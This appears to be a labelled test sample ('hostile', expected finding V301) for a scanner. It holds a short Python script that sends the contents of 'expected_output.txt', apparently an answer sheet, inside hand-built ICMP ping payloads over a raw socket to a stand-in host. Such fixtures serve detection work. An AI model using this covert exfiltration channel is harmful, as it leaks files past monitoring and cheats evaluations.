# label: hostile
# expect: V301
# note: Builds ICMP echo requests by hand and carries the answer sheet in their payload; a raw socket never calls connect.
import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    return ~(s + (s >> 16)) & 0xFFFF


def echo(seq, payload):
    head = struct.pack("!BBHHH", 8, 0, 0, 0x4242, seq)
    return struct.pack("!BBHHH", 8, 0, checksum(head + payload), 0x4242, seq) + payload


s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
answers = open("expected_output.txt", "rb").read()
for i in range(0, len(answers), 48):
    s.sendto(echo(i // 48, answers[i : i + 48]), ("203.0.113.5", 0))
sys.exit(0)
